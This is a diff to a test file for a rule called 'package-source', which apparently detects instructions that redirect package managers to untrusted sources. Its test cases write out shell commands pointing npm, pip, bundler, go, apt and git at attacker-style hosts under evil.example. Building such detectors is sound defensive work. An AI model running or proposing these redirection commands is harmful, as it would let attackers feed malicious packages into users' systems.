@@ -47,18 +47,25 @@ const npm = { others: ['registry=https://npm.acme.example/'] }
 testRule(
   'package-source',
   [
-    sh('npm install acme --registry=https://npm.evil.example'),
-    sh('export PIP_EXTRA_INDEX_URL=https://pypi.evil.example/simple'),
-    sh('bundle config mirror.https://rubygems.org https://gems.evil.example'),
-    sh('go env -w GOPROXY=https://proxy.evil.example,direct'),
-    sh('sudo add-apt-repository "deb https://apt.evil.example stable main"'),
-    sh('git config --global url.https://git.evil.example/.insteadOf https://github.com/'),
-    block('ruby', "source 'https://gems.evil.example'"),
-    'Run `pip config set global.index-url https://pypi.evil.example/simple`.\n',
+    {
+      before: sh('npm install acme'),
+      after: sh('npm install acme --registry=https://npm.evil.example'),
+    },
+    ...[
+      sh('npm install acme --registry=https://npm.evil.example'),
+      sh('export PIP_EXTRA_INDEX_URL=https://pypi.evil.example/simple'),
+      sh('bundle config mirror.https://rubygems.org https://gems.evil.example'),
+      sh('go env -w GOPROXY=https://proxy.evil.example,direct'),
+      sh('sudo add-apt-repository "deb https://apt.evil.example stable main"'),
+      sh('git config --global url.https://git.evil.example/.insteadOf https://github.com/'),
+      block('ruby', "source 'https://gems.evil.example'"),
+      'Run `pip config set global.index-url https://pypi.evil.example/simple`.\n',
+    ].map((after) => ({ after, readers: ['evil.example is faster'] })),
   ],
   [
     { ...npm, after: sh('npm install acme --registry=https://npm.acme.example') },
     sh('curl https://api.evil.example/registry'),
+    sh('npm install acme --registry=https://npm.evil.example'),
     sh('npm install --registry=$REGISTRY acme'),
     'Our registry is at https://npm.evil.example.\n',
   ],
